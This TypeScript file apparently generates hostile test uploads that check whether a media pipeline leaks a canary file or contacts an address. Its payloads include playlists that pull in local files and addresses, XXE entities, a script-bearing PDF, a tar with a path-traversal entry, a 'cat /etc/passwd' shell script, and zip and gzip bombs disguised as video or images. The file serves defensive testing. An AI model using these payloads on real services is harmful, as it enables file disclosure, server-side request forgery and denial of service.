import { gzipSync } from "node:zlib";
import { box, join, repeat, u8, u32 } from "./bytes.ts";
import { family, type HostileFile } from "./hostile-file.ts";

interface Targets {
  readonly canaryPath: string;
  readonly address: string;
}

const hls = (target: string): string => `#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:1,\n${target}\n#EXT-X-ENDLIST\n`;
const dash = (target: string): string =>
  `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet><Representation id="1"><BaseURL>${target}</BaseURL></Representation></AdaptationSet></Period></MPD>`;
const svg = (target: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${target}"/><script>1</script></svg>`;
const entity = (target: string): string =>
  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${target}">]><a>&b;</a>`;

/** Texts that some ffmpeg demuxer would follow to other files or URLs. */
export const playlists = ({ canaryPath, address }: Targets): readonly (readonly [string, string])[] => [
  ["HLS to a file", hls(`file://${canaryPath}`)],
  ["HLS to a path", hls(canaryPath)],
  ["HLS to an address", hls(address)],
  [
    "HLS with a key at an address",
    hls("x.ts").replace("#EXTINF", `#EXT-X-KEY:METHOD=AES-128,URI="${address}"\n#EXTINF`),
  ],
  ["HLS by concat", hls(`concat:${address}|file://${canaryPath}`)],
  ["HLS by subfile", hls(`subfile,,start,0,end,64,,:${canaryPath}`)],
  ["HLS by udp", hls(address.replace("http", "udp"))],
  ["HLS by tcp", hls(address.replace("http", "tcp"))],
  ["HLS after a blank line", `\n${hls(`file://${canaryPath}`)}`],
  ["HLS after a byte order mark", `\xef\xbb\xbf${hls(address)}`],
  ["DASH to a file", dash(`file://${canaryPath}`)],
  ["DASH to an address", dash(address)],
  ["DASH with an outside entity", entity(`file://${canaryPath}`).replace("<a>&b;</a>", "<MPD>&b;</MPD>")],
  ["concat list of a file", `ffconcat version 1.0\nfile '${canaryPath}'\n`],
  ["concat list of an address", `ffconcat version 1.0\nfile '${address}'\n`],
  ["concat list without a header", `file '${canaryPath}'\nfile '${address}'\n`],
  ["M3U of a file", `file://${canaryPath}\n${address}\n`],
  ["session description", `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n`],
  ["RTSP text", `[Reference]\nRef1=${address}\n`],
  ["ASX", `<asx version="3.0"><entry><ref href="${address}"/></entry></asx>`],
];

const disguised = (targets: Targets): HostileFile[] => {
  const text = hls(`file://${targets.canaryPath}`) + hls(targets.address);
  return [
    ...family("playlist behind a sign", "video/mp4", [
      ["an ftyp box", join(box("ftyp", join("isom", u32(0))), text)],
      ["a free box", join(box("ftyp", join("isom", u32(0))), box("free", Buffer.from(text)))],
      ["a matroska sign", join(u8(0x1a, 0x45, 0xdf, 0xa3, 0x87, 0x42, 0x82, 0x84), "webm", text)],
      ["an AVI sign", join("RIFF", u32(0), "AVI ", text)],
      ["packets of a transport stream", join(repeat(join("G", Buffer.alloc(187, 255)), 8), text)],
    ]),
    ...family("playlist behind a sign", "image/gif", [["a GIF sign", `GIF89a${text}`]]),
    ...family("playlist behind a sign", "image/jpeg", [["a JPEG sign", join(u8(0xff, 0xd8, 0xff, 0xe0), text)]]),
    ...family("playlist behind a sign", "audio/mpeg", [["an ID3 tag", join("ID3", u8(4, 0, 0, 0, 0, 0, 0), text)]]),
  ];
};

const documents = (targets: Targets): HostileFile[] => {
  const page = "<!doctype html><script>fetch('/api/auth/me')</script>";
  const gzip = gzipSync(Buffer.alloc(32 * 1024 ** 2));
  const zip = join("PK\x03\x04", Buffer.alloc(26), gzip);
  return [
    ...family("documents as clips", "video/mp4", [
      ["a page", page],
      ["a page behind spaces", `${" ".repeat(5_000)}${page}`],
      ["an SVG", svg(targets.address)],
      ["an XML with an outside entity", entity(targets.address)],
      ["a PDF", "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"],
      ["PostScript", `%!PS\n(${targets.canaryPath}) (r) file\n`],
      ["a shell script", "#!/bin/sh\ncat /etc/passwd\n"],
      ["an ELF program", join(u8(0x7f), "ELF", Buffer.alloc(200, 2))],
      ["a zip bomb", zip],
      ["a gzip bomb", gzip],
      ["a tar", join("../../etc/passwd", Buffer.alloc(241), "ustar", Buffer.alloc(600))],
      ["nothing but zeros", Buffer.alloc(1024 ** 2)],
      ["one byte", u8(0)],
      ["no byte at all", u8()],
    ]),
    ...family("documents as pictures", "image/png", [
      ["an SVG", svg(`file://${targets.canaryPath}`)],
      ["an EXR", join(u8(0x76, 0x2f, 0x31, 0x01, 2, 0, 0, 0), "channels\0chlist\0", Buffer.alloc(500, 127))],
      ["a SANM animation", join("ANIM", u32(1_000), "AHDR", u32(500), Buffer.alloc(1_000, 9))],
      ["a PSD", join("8BPS", u8(0, 1), Buffer.alloc(200, 255))],
      ["a TIFF", join("II*\0", u8(8, 0, 0, 0), Buffer.alloc(500, 255))],
      ["a DPX", join("SDPX", Buffer.alloc(2_048, 255))],
      ["an MVG", `push graphic-context\nimage over 0,0 0,0 '${targets.address}'\npop graphic-context`],
    ]),
    ...family("kept, never opened", "application/zip", [["a zip bomb", zip, "unopened"]]),
    ...family("kept, never opened", "image/svg+xml", [["an SVG", svg(targets.address), "unopened"]]),
    ...family("kept, never opened", "text/html", [["a page", page, "unopened"]]),
  ];
};

export const textFiles = (targets: Targets): HostileFile[] => [
  ...family("playlists", "video/mp4", playlists(targets)),
  ...family("playlists, honest", "application/vnd.apple.mpegurl", [["HLS", hls(targets.address), "unopened"]]),
  ...disguised(targets),
  ...documents(targets),
];
